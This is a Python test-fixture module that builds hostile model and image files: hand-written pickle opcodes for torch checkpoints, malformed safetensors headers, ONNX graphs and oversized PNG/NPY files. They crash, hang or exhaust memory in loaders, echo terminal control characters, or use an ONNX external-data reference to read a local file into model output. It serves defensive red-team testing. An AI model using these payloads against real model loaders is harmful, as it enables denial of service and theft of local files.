"""Builders of hostile model files (round two of the red-team findings), each a few bytes to a
few MB, written by the tests themselves. Each builder returns the path it wrote.

The pickles are written opcode by opcode, as an attacker would, since `pickle.dumps` cannot
produce most of them (it would crash or hang first).
"""

from __future__ import annotations

import json
import struct
import zipfile
from pathlib import Path

import torch
from safetensors.torch import save_file

PROTO = b"\x80\x02"


def _binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def _long(n: int) -> bytes:
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _unicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _global(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def _put(index: int) -> bytes:
    return b"r" + struct.pack("<I", index)


def _get(index: int) -> bytes:
    return b"j" + struct.pack("<I", index)


def torch_zip(path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None) -> Path:
    """A torch zip checkpoint whose `data.pkl` is `data_pkl` (members stored, as torch writes)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        for key, data in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")
    return path


def _tensor(
    storage_key: str, numel: int, size: tuple[int, ...], stride: tuple[int, ...], rebuild: str = "_rebuild_tensor_v2"
) -> bytes:
    """Opcodes of `torch._utils.<rebuild>((storage pid), 0, size, stride, False, OrderedDict())`."""
    pid = (
        b"("
        + _unicode("storage")
        + _global("torch", "FloatStorage")
        + _unicode(storage_key)
        + _unicode("cpu")
        + _long(numel)
        + b"tQ"
    )
    tup = lambda values: b"(" + b"".join(_long(v) for v in values) + b"t"  # noqa: E731
    return (
        _global("torch._utils", rebuild)
        + b"("
        + pid
        + _long(0)
        + tup(size)
        + tup(stride)
        + b"\x89"
        + _global("collections", "OrderedDict")
        + b")Rt"
        + b"R"
    )


def nested_key(path: Path, depth: int = 1_000_000) -> Path:
    """A dictionary key that is a tuple nested `depth` deep (crashes the interpreter when hashed)."""
    key = b")" + b"\x85" * depth  # EMPTY_TUPLE, then TUPLE1 `depth` times
    return torch_zip(path, PROTO + b"}" + key + _binint(1) + b"s.")


def self_referencing_key(path: Path, levels: int = 60) -> Path:
    """t[i+1] = (t[i], t[i]) through the memo: 2^levels parts once expanded (hangs `str`)."""
    body = b")" + _put(0)
    for i in range(levels):
        body += _get(i) + _get(i) + b"\x86" + _put(i + 1)
    body = PROTO + b"}" + _unicode("w") + _tensor("0", 1, (1,), (1,)) + b"s" + body
    return torch_zip(path, body + _binint(1) + b"s.", {"0": b"\0" * 4})


def bytearray_bomb(path: Path, size: int = 6_000_000_000) -> Path:
    """`bytearray(6e9)` inside a state dict: allowed by torch's restricted unpickler."""
    body = PROTO + b"}" + _unicode("weight") + _global("builtins", "bytearray") + _long(size) + b"\x85R" + b"s."
    return torch_zip(path, body)


def zero_stride_view(path: Path, side: int = 100_000) -> Path:
    """A 4-byte storage viewed as a (side, side) tensor through zero strides."""
    body = PROTO + b"}" + _unicode("conv.weight") + _tensor("0", 1, (side, side), (0, 0)) + b"s."
    return torch_zip(path, body, {"0": b"\0" * 4})


def device_tensor_view(path: Path, side: int = 40_000) -> Path:
    """`_rebuild_device_tensor_from_cpu_tensor` over a zero-stride view (materialised on load)."""
    inner = _tensor("0", 1, (side, side), (0, 0))
    body = (
        PROTO
        + b"}"
        + _unicode("conv.weight")
        + _global("torch._utils", "_rebuild_device_tensor_from_cpu_tensor")
        + b"("
        + inner
        + _unicode("cpu")
        + _unicode("cpu")
        + b"\x89t"
        + b"R"
        + b"s."
    )
    return torch_zip(path, body, {"0": b"\0" * 4})


def storage_bomb(path: Path, numel: int = 1_500_000_000) -> Path:
    """A storage declaring 6 GB of floats with 4 bytes of data behind it."""
    body = PROTO + b"}" + _unicode("conv.weight") + _tensor("0", numel, (1,), (1,)) + b"s."
    return torch_zip(path, body, {"0": b"\0" * 4})


def legacy_storage_bomb(path: Path, numel: int = 1_500_000_000) -> Path:
    """The same in torch's legacy (non-zip) format, which allocates the declared size first."""
    magic = PROTO + _long(0x1950A86A20F9469CFC6C) + b"."
    protocol = PROTO + _binint(1001) + b"."
    info = PROTO + b"}" + _unicode("little_endian") + b"\x88s."
    pid = (
        b"("
        + _unicode("storage")
        + _global("torch", "FloatStorage")
        + _unicode("k")
        + _unicode("cpu")
        + _long(numel)
        + b"NtQ"
    )
    tensor = (
        _global("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + pid
        + _long(0)
        + b"("
        + _long(1)
        + b"t("
        + _long(1)
        + b"t\x89"
        + _global("collections", "OrderedDict")
        + b")RtR"
    )
    state = PROTO + b"}" + _unicode("conv.weight") + tensor + b"s."
    keys = PROTO + b"]" + _unicode("k") + b"a."
    path.write_bytes(magic + protocol + info + state + keys + struct.pack("<q", numel) + b"\0" * 4)
    return path


def compact_with_huge_index(path: Path, index: int = 74002) -> Path:
    """A valid Compact-shaped .safetensors whose highest `body.N` is `index` (spandrel would build
    `index / 2` convolutions: 6 GB at 74002, 60 GB at 800002)."""
    tensors = {
        "body.0.weight": torch.zeros(64, 3, 3, 3),
        "body.0.bias": torch.zeros(64),
        "body.1.weight": torch.zeros(64),
        f"body.{index}.weight": torch.zeros(48, 64, 3, 3),
        f"body.{index}.bias": torch.zeros(48),
    }
    save_file(tensors, str(path))
    return path


def safetensors_header(path: Path, header: str | bytes, data: bytes = b"\0" * 4) -> Path:
    """A .safetensors file with the given raw header and `data`."""
    raw = header.encode() if isinstance(header, str) else header
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)
    return path


def overflowing_offsets(path: Path) -> Path:
    return safetensors_header(path, '{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 1e400]}}')


def huge_shape(path: Path) -> Path:
    return safetensors_header(
        path, json.dumps({"w": {"dtype": "F32", "shape": [2**64 - 1], "data_offsets": [0, 4]}}) + "    "
    )


def deep_header(path: Path, depth: int = 100_000) -> Path:
    return safetensors_header(path, '{"w": ' + "[" * depth + "]" * depth + "}")


def long_key(path: Path, length: int = 4 * 1024 * 1024) -> Path:
    """A state dict whose only key is 4 MB long, with control characters (echoed in messages)."""
    key = ("\x1b[2J\r" + "k" * 64) * (length // 69)
    body = PROTO + b"}" + _unicode(key) + _binint(1) + b"s."
    return torch_zip(path, body)


ALL_MODEL_FILES = {
    "nested_key.pth": nested_key,
    "self_referencing_key.pth": self_referencing_key,
    "bytearray_bomb.pth": bytearray_bomb,
    "zero_stride_view.pth": zero_stride_view,
    "device_tensor_view.pth": device_tensor_view,
    "storage_bomb.pth": storage_bomb,
    "legacy_storage_bomb.pt": legacy_storage_bomb,
    "compact_huge_index.safetensors": compact_with_huge_index,
    "overflowing_offsets.safetensors": overflowing_offsets,
    "huge_shape.safetensors": huge_shape,
    "deep_header.safetensors": deep_header,
    "long_key.pth": long_key,
}


def write_all(folder: Path) -> dict[str, Path]:
    """Every hostile model file here, written into `folder` (the ONNX ones when onnx is installed)."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {name: build(folder / name) for name, build in ALL_MODEL_FILES.items()}
    try:
        import onnx  # noqa: F401
    except ImportError:
        return made
    made.update({name: build(folder / name) for name, build in ONNX_FILES.items()})
    return made


# ------------------------------------------------------------------------------------ ONNX
def _onnx_model(nodes, outputs, functions=(), initializers=()):
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 3, "H", "W"])
    graph = helper.make_graph(list(nodes), "g", [x], list(outputs), initializer=list(initializers))
    return helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)], functions=list(functions)
    )


def onnx_external_in_function_branch(path: Path, secret: str = "secret.txt") -> Path:
    """A Constant with EXTERNAL data inside an If branch inside a model-local function: reading it
    would put the bytes of `secret` (a path the file chooses) into the output."""
    import onnx
    from onnx import TensorProto, helper

    leak = TensorProto(name="leak", data_type=TensorProto.FLOAT, dims=[1, 3, 1, 1])
    leak.data_location = TensorProto.EXTERNAL
    leak.external_data.add(key="location", value=secret)
    leak.external_data.add(key="length", value="12")

    def branch(name, node):
        return helper.make_graph([node], name, [], [helper.make_tensor_value_info("b", TensorProto.FLOAT, None)])

    then_branch = branch("then", helper.make_node("Constant", [], ["b"], value=leak))
    else_branch = branch(
        "else",
        helper.make_node(
            "Constant", [], ["b"], value=helper.make_tensor("zero", TensorProto.FLOAT, [1, 3, 1, 1], [0, 0, 0])
        ),
    )
    body = [
        helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
        helper.make_node("If", ["cond"], ["b"], then_branch=then_branch, else_branch=else_branch),
        helper.make_node("Add", ["fx", "b"], ["fy"]),
    ]
    function = helper.make_function("local", "Leak", ["fx"], ["fy"], body, [helper.make_opsetid("", 17)])
    model = _onnx_model(
        [helper.make_node("Leak", ["x"], ["y"], domain="local")],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])],
        [function],
    )
    onnx.save(model, str(path))
    return path


def onnx_constant_of_shape(path: Path) -> Path:
    """A 1x3x24000x24000 tensor (7 GB) from a shape fixed in the file, whatever the input."""
    import onnx
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [4], [1, 3, 24000, 24000])
    nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"]), helper.make_node("Add", ["x", "big"], ["y"])]
    model = _onnx_model(
        nodes, [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])], initializers=[shape]
    )
    onnx.save(model, str(path))
    return path


def onnx_endless_loop(path: Path) -> Path:
    """A Loop of 2^62 iterations around the identity."""
    import onnx
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, None),
        ],
    )
    trips = helper.make_tensor("trips", TensorProto.INT64, [], [2**62])
    true = helper.make_tensor("true", TensorProto.BOOL, [], [True])
    model = _onnx_model(
        [helper.make_node("Loop", ["trips", "true", "x"], ["y"], body=body)],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])],
        initializers=[trips, true],
    )
    onnx.save(model, str(path))
    return path


ONNX_FILES = {
    "external_in_function_branch.onnx": onnx_external_in_function_branch,
    "constant_of_shape.onnx": onnx_constant_of_shape,
    "endless_loop.onnx": onnx_endless_loop,
}


# ---------------------------------------------------------------------------------- images
def npy_header_bomb(path: Path) -> Path:
    """A .npy header claiming 30000x30000x3 float32 (10 GB) over a few bytes."""
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (30000, 30000, 3), }"
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"\0" * 16)
    return path


def png_of_size(path: Path, width: int, height: int, rgb: bool = True) -> Path:
    """A valid PNG of `width` x `height` black pixels (8-bit RGB, or 1-bit gray), compressed to
    a few kB per megapixel (written row by row, so building it needs no large memory)."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + (3 * width if rgb else -(-width // 8)))
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8 if rgb else 1, 2 if rgb else 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


IMAGE_FILES = {
    "npy_bomb.npy": npy_header_bomb,
    "huge_30000.png": lambda path: png_of_size(path, 30000, 30000, rgb=False),
    "large_169mp.png": lambda path: png_of_size(path, 13000, 13000),
}


def write_images(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: build(folder / name) for name, build in IMAGE_FILES.items()}
